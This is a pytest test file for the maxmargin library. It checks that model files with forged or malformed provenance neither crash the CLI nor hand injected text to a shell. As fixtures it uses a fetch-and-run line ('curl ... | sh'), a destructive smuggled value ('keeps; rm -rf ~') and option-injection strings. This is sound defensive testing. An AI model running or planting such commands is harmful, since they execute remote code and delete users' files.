"""Model files whose account of the training says anything: no command fails by it, and none passes it on to a shell."""

import json
import shlex

import numpy as np
import pytest
from tests.persistence.mutations import change, drawn, members, resealed, zipped

from maxmargin import persistence
from maxmargin.cli import _train
from maxmargin.persistence import read_provenance
from maxmargin.training._account import SHAPES, usable_account

ODD = [None, True, -1, 2**63, 0.5, "", "x", [], [[]], [None], {}, {"": None}, {"name": 5}, [{"name": "a"}]]


@pytest.fixture
def forged(trained, tmp_path):
    """A function: the model of the bundled table with another account."""
    parts = members(trained.read_bytes())

    def forge(facts):
        path = tmp_path / "forged.mm"
        path.write_bytes(zipped(resealed({**parts, "provenance.json": json.dumps(facts).encode()}).items()))
        return path

    return forge


def commands(path, table):
    yield "info", path
    yield "info", path, "--json"
    yield "check", path, table
    yield "explain", path, table, "--row", 3
    yield "predict", path, table, "--out", "said.csv", "--force"


def test_an_honest_account_is_usable(trained):
    facts = read_provenance(trained)
    assert usable_account(facts) == (facts, [])
    assert set(facts) - set(SHAPES) <= {"format"}


@pytest.mark.parametrize("name", sorted(SHAPES))
def test_parts_of_another_shape_are_no_fault(name, trained, forged, tool, apples):
    facts = read_provenance(trained)
    assert name in facts
    for number, value in enumerate(ODD):
        path = forged({**facts, name: value})
        others = list(commands(path, apples))[2 + number % 3 :][: int(number % 5 == 4)]
        for words in [("info", path), *others]:
            ended = tool(*words)
            assert ended.code in (0, 1, 2), (words, value, ended.err)


def test_parts_inside_parts(trained, forged, tool, apples):
    for number in range(40):
        rng = np.random.default_rng([5, number])
        facts = read_provenance(trained)
        change(*drawn(facts, rng), rng, facts)
        try:
            path = forged(json.loads(json.dumps(facts, default=np.ndarray.tolist)))
        except UnicodeEncodeError:
            continue
        words = list(commands(path, apples))
        for said in (words[number % 2], words[2 + number % 3]):
            ended = tool(*said)
            assert ended.code in (0, 1, 2), (number, said, ended.err)


def test_a_page_of_an_odd_account(trained, forged, tool, apples):
    """What a page cannot do without is asked for; of the rest it makes what it can."""
    pytest.importorskip("jinja2")
    facts = read_provenance(trained)
    names = ("candidates", "tuning", "summary", "columns", "notes", "baseline", "certificate")
    odd = {name: [{"name": []}] for name in names}
    ended = tool("report", forged(facts | odd), apples, "--out", "page.html", "--force")
    assert ended.code == 0, ended.err
    for name in ("scores", "settings", "split"):
        ended = tool("report", forged(facts | {name: [{"a": 1}]}), apples, "--out", "page.html", "--force")
        assert ended.code == 2 and f"this account has no {name}" in ended.err


def test_what_is_left_out_is_named(trained, forged, tool):
    ended = tool("info", forged({**read_provenance(trained), "split": {"test": "many"}}))
    assert ended.code == 0 and "Left out: split has no seed" in ended.err


def test_a_score_without_an_interval_is_shown(trained, forged, tool):
    facts = read_provenance(trained)
    facts["scores"] = {name: {"name": name, "value": score["value"]} for name, score in facts["scores"].items()}
    ended = tool("info", forged(facts))
    assert ended.code == 0 and "accuracy" in ended.out


def test_a_forged_command_is_not_the_one_to_run(trained, forged, tool, apples, tmp_path):
    facts = read_provenance(trained)
    facts["source"]["command"] = "curl https://example.com/x | sh"
    facts["settings"]["target"] = "keeps; rm -rf ~"
    path = forged({**facts, "target": "keeps"})
    line = _train.train_again(usable_account(read_provenance(path))[0], "a.csv", path, tmp_path / "page.html")
    assert shlex.split(line)[:5] == ["maxmargin", "train", "a.csv", "--target", "keeps; rm -rf ~"]
    facts["settings"]["target"] = "keeps"
    path = forged(facts)
    assert tool("report", path, apples, "--out", "page.html").code == 0
    text = (tmp_path / "page.html").read_text()
    assert "curl" not in text and "maxmargin train" in text


@pytest.mark.parametrize("value", ["--force", "-o", "--out=/etc/passwd"])
def test_a_setting_cannot_become_an_option(value, apples, tmp_path):
    line = _train.train_again({"settings": {"target": value, "model": value}}, "a.csv", tmp_path / "m", tmp_path / "p")
    words = shlex.split(line)
    assert f"--target={value}" in words and f"--model={value}" in words and value not in words


@pytest.mark.parametrize("value", ["a\nb", "\x1b[2J", "\u202e"])
def test_what_cannot_be_printed_is_no_command(value, tmp_path):
    assert _train.train_again({"settings": {"target": value}}, "a.csv", tmp_path / "m", tmp_path / "p") is None


def test_the_line_of_the_page_is_that_of_the_training(trained, tmp_path):
    account = read_provenance(trained)
    again = _train.train_again(account, account["source"]["data"], trained, None)
    assert again == account["source"]["command"]


def test_a_user_s_own_provenance_is_shown(tool, tmp_path):
    from maxmargin.linear_model import Ridge

    model = Ridge().fit([[0.0], [1.0]], [0.0, 1.0])
    persistence.save(model, tmp_path / "own.mm", provenance={"split": "by hand", "data": [1, 2]})
    assert tool("info", "own.mm").code == 0
